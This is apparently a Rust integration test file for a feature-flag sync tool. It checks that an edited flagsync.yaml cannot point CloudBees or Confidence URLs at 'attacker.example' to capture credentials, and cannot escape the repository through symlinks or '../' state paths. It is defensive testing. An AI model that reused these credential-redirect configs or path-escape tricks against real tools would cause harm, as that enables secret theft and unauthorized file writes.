//! A pull request can edit flagsync.yaml: it must not be able to send the job's credentials
//! to a host it controls, nor make the embedded emulator write outside the repository.
//!
//! Every request to a host other than loopback goes through a proxy that records it and
//! answers 403 (`crate::common::RecordingProxy`), so nothing leaves the machine, and what
//! would have left is seen.

use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use crate::common::{APPLICATION, Emu, RecordingProxy, quickstart_copy, text};

const ATTACKER: &str = "attacker.example";

/// `flagsync ARGS DIR` with the emulator's credentials but none of its URL overrides (those
/// are the operator's), every request off loopback through `proxy`. Stopped once the proxy
/// saw a request (a refused connection is retried for a while) or after 30 s.
fn run_through_proxy(
    emu: &Emu,
    args: &[&str],
    dir: &Path,
    proxy: &RecordingProxy,
    env: &[(&str, &str)],
) -> (Option<Output>, Vec<String>) {
    let mut cmd = emu.std_command(args, dir);
    cmd.env_remove("FLAGSYNC_CLOUDBEES_URL")
        .env_remove("FLAGSYNC_CONFIDENCE_URL")
        .env_remove("FLAGSYNC_CONFIDENCE_IAM_URL")
        .env_remove("FLAGSYNC_ALLOWED_HOSTS")
        .env("CONFIDENCE_TOKEN", flagsync_emulator::DEFAULT_TOKEN)
        .env("HTTPS_PROXY", &proxy.url)
        .env("HTTP_PROXY", &proxy.url)
        .env("ALL_PROXY", &proxy.url)
        .env("NO_PROXY", "127.0.0.1,localhost")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    for (k, v) in env {
        cmd.env(k, v);
    }
    let mut child = cmd.spawn().unwrap();
    let started = Instant::now();
    loop {
        if child.try_wait().unwrap().is_some() {
            return (Some(child.wait_with_output().unwrap()), proxy.seen());
        }
        if !proxy.seen().is_empty() || started.elapsed() > Duration::from_secs(30) {
            let _ = child.kill();
            let _ = child.wait();
            return (None, proxy.seen());
        }
        std::thread::sleep(Duration::from_millis(10));
    }
}

fn repo(config: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("flagsync.yaml"), config).unwrap();
    for sub in ["rollouts", "target_groups", "environments/Production"] {
        std::fs::create_dir_all(dir.path().join(sub)).unwrap();
    }
    std::fs::write(
        dir.path().join("target_groups/beta.yml"),
        "type: target-group\nname: beta\nconditions:\n  - property: hasBetaAccess\n    operator: is-true\n",
    )
    .unwrap();
    std::fs::write(
        dir.path().join("rollouts/r.yml"),
        "type: rollout\nid: r\nstate: draft\nrollout:\n  flag: flags/r\n",
    )
    .unwrap();
    dir
}

fn cloudbees(url: &str) -> String {
    format!(
        "cloudbees:\n  application: {APPLICATION}\n  token_env: CLOUDBEES_API_TOKEN\n  url: {url}\n  target_groups: target_groups\n  environments:\n    Production: {{ experiments: environments/Production }}\n"
    )
}

fn confidence(extra: &str) -> String {
    format!(
        "confidence:\n  client_id_env: CONFIDENCE_CLIENT_ID\n  client_secret_env: CONFIDENCE_CLIENT_SECRET\n  rollouts: rollouts\n{extra}"
    )
}

/// The run refused before sending anything, naming the setting and how to allow the host,
/// and showed no credential.
fn assert_refused(run: (Option<Output>, Vec<String>), setting: &str) {
    let (out, seen) = run;
    assert_eq!(
        seen,
        Vec::<String>::new(),
        "{setting}: a request left loopback"
    );
    let out = out.unwrap_or_else(|| panic!("{setting}: still running after 30 s"));
    assert_eq!(out.status.code(), Some(1), "{setting}: {}", text(&out));
    let all = text(&out);
    assert!(all.contains(&format!("`{setting}`")), "{all}");
    assert!(all.contains(ATTACKER), "{all}");
    assert!(
        all.contains(&format!("FLAGSYNC_ALLOWED_HOSTS={ATTACKER}")),
        "{all}"
    );
    assert!(all.contains(&format!("--allow-host {ATTACKER}")), "{all}");
    for secret in [
        flagsync_emulator::DEFAULT_TOKEN,
        flagsync_emulator::DEFAULT_CLIENT_SECRET,
    ] {
        assert!(!all.contains(secret), "{all}");
    }
}

#[test]
fn flagsync_yaml_cannot_send_credentials_to_a_host_of_its_own() {
    let emu = Emu::start();
    let local = emu.emulator.confidence_url();
    let attacker = format!("https://{ATTACKER}");
    let cases = [
        (
            cloudbees(&format!("{attacker}/public-api")),
            "cloudbees.url",
        ),
        // CloudBees Unify: the same setting, the same credentials.
        (
            format!(
                "cloudbees:\n  api: unify\n  organization: {}\n  application: {}\n  token_env: CLOUDBEES_API_TOKEN\n  url: {attacker}\n  target_groups: target_groups\n  environments:\n    Production: {{ experiments: environments/Production }}\n",
                flagsync_emulator::UNIFY_DEFAULT_ORGANIZATION_DOMAIN,
                flagsync_emulator::UNIFY_DEFAULT_APPLICATION_ID,
            ),
            "cloudbees.url",
        ),
        (
            confidence(&format!("  url: {attacker}\n")),
            "confidence.url",
        ),
        // The client secret would go to the token endpoint.
        (
            confidence(&format!("  url: {local}\n  iam_url: {attacker}\n")),
            "confidence.iam_url",
        ),
        (
            format!(
                "confidence:\n  token_env: CONFIDENCE_TOKEN\n  rollouts: rollouts\n  url: {local}\n  flags_url: {attacker}\n"
            ),
            "confidence.flags_url",
        ),
        (
            confidence(&format!("  experiments_url: {attacker}\n")),
            "confidence.experiments_url",
        ),
        (
            confidence(&format!("  url: {local}\n  stats_url: {attacker}.\n")),
            "confidence.stats_url",
        ),
    ];
    for (config, setting) in &cases {
        let dir = repo(config);
        let proxy = RecordingProxy::start();
        assert_refused(
            run_through_proxy(&emu, &["plan"], dir.path(), &proxy, &[]),
            setting,
        );
    }

    // Every command that talks to a service refuses the same way.
    let dir = repo(&confidence(&format!("  url: {attacker}\n")));
    for args in [
        &["apply", "--auto-approve"][..],
        &["export", "--force"],
        &["doctor"],
        &["results", "r"],
        &["dedupe"],
    ] {
        let proxy = RecordingProxy::start();
        assert_refused(
            run_through_proxy(&emu, args, dir.path(), &proxy, &[]),
            "confidence.url",
        );
    }
}

#[test]
fn only_the_operator_can_allow_another_host() {
    let emu = Emu::start();
    let dir = repo(&confidence(&format!("  url: https://{ATTACKER}\n")));
    // flagsync.yaml cannot allow a host itself: there is no such setting.
    let mut config = std::fs::read_to_string(dir.path().join("flagsync.yaml")).unwrap();
    config.push_str(&format!("allowed_hosts: [{ATTACKER}]\n"));
    std::fs::write(dir.path().join("flagsync.yaml"), &config).unwrap();
    let proxy = RecordingProxy::start();
    let (out, seen) = run_through_proxy(&emu, &["plan"], dir.path(), &proxy, &[]);
    assert_eq!(seen, Vec::<String>::new());
    let out = out.expect("finished");
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(
        text(&out).contains("unknown field `allowed_hosts`"),
        "{}",
        text(&out)
    );
    std::fs::write(
        dir.path().join("flagsync.yaml"),
        confidence(&format!("  url: https://{ATTACKER}\n")),
    )
    .unwrap();

    // The environment (or --allow-host) allows it: the request goes there.
    for env in [
        &[("FLAGSYNC_ALLOWED_HOSTS", "other.example, Attacker.Example")][..],
        &[],
    ] {
        let args: &[&str] = if env.is_empty() {
            &["plan", "--allow-host", ATTACKER]
        } else {
            &["plan"]
        };
        let proxy = RecordingProxy::start();
        let (_, seen) = run_through_proxy(&emu, args, dir.path(), &proxy, env);
        assert!(
            seen.first()
                .is_some_and(|l| l.starts_with(&format!("CONNECT {ATTACKER}:443"))),
            "{env:?}: {seen:?}"
        );
    }
}

/// The embedded emulator, as a user runs it: no URL overrides, no credentials.
fn embedded(args: &[&str], dir: &Path) -> Output {
    Command::new(assert_cmd::cargo::cargo_bin("flagsync"))
        .args(args)
        .arg(dir)
        .env("NO_COLOR", "1")
        .env_remove("RUST_LOG")
        .env_remove("FLAGSYNC_CLOUDBEES_URL")
        .env_remove("FLAGSYNC_CONFIDENCE_URL")
        .env_remove("FLAGSYNC_CONFIDENCE_IAM_URL")
        .output()
        .unwrap()
}

#[cfg(unix)]
#[test]
fn the_embedded_emulator_keeps_its_state_inside_the_repository() {
    let outside = tempfile::tempdir().unwrap();
    let repo = quickstart_copy();
    let dir = repo.path();

    // The state folder's parent is a link out of the repository.
    std::os::unix::fs::symlink(outside.path(), dir.join(".flagsync")).unwrap();
    let out = embedded(&["plan"], dir);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("emulator.state"), "{err}");
    assert!(err.contains("leads outside the repository"), "{err}");
    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 0);
    std::fs::remove_file(dir.join(".flagsync")).unwrap();

    // The state file is a link to a file elsewhere: neither read nor replaced.
    let secret = outside.path().join("secret");
    std::fs::write(&secret, "SECRET-CONTENT").unwrap();
    std::fs::create_dir_all(dir.join(".flagsync/emulator")).unwrap();
    let state = dir.join(".flagsync/emulator/emulator-state.json");
    std::os::unix::fs::symlink(&secret, &state).unwrap();
    let out = embedded(&["apply", "--auto-approve"], dir);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    let all = text(&out);
    assert!(all.contains("symbolic link"), "{all}");
    assert!(!all.contains("SECRET-CONTENT"), "{all}");
    assert_eq!(std::fs::read_to_string(&secret).unwrap(), "SECRET-CONTENT");

    // A link inside the repository is followed, as everywhere else.
    std::fs::remove_file(&state).unwrap();
    std::fs::remove_dir_all(dir.join(".flagsync")).unwrap();
    std::fs::create_dir_all(dir.join("state-here")).unwrap();
    std::os::unix::fs::symlink(dir.join("state-here"), dir.join(".flagsync")).unwrap();
    let out = embedded(&["apply", "--auto-approve"], dir);
    assert!(out.status.success(), "{}", text(&out));
    assert!(
        dir.join("state-here/emulator/emulator-state.json")
            .is_file()
    );
    assert_eq!(std::fs::read_to_string(&secret).unwrap(), "SECRET-CONTENT");
}

/// `emulator.state` outside the repository by `..`: validation refuses it before anything
/// runs, and a command that reads only flagsync.yaml (doctor, results) refuses it when the
/// emulator starts. Nothing is created outside either way.
#[test]
fn an_emulator_state_outside_the_repository_is_refused() {
    let outside = tempfile::tempdir().unwrap();
    let repo = quickstart_copy();
    let dir = repo.path();
    // Both are in the temporary folder: `../NAME` from the repository is `outside`.
    let name = outside.path().file_name().unwrap().to_str().unwrap();
    let config = std::fs::read_to_string(dir.join("flagsync.yaml"))
        .unwrap()
        .replace(
            "state: .flagsync/emulator",
            &format!("state: ../{name}/state"),
        );
    assert!(config.contains(&format!("../{name}/state")));
    std::fs::write(dir.join("flagsync.yaml"), config).unwrap();

    let out = embedded(&["plan"], dir);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(
        text(&out).contains("must be a relative path inside the repository"),
        "{}",
        text(&out)
    );
    for args in [&["doctor"][..], &["results", "r"]] {
        let out = embedded(args, dir);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {}", text(&out));
        let all = text(&out);
        assert!(all.contains("emulator.state"), "{args:?}: {all}");
        assert!(
            all.contains("leads outside the repository"),
            "{args:?}: {all}"
        );
    }
    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 0);
    assert!(!dir.join(".flagsync").exists());
}
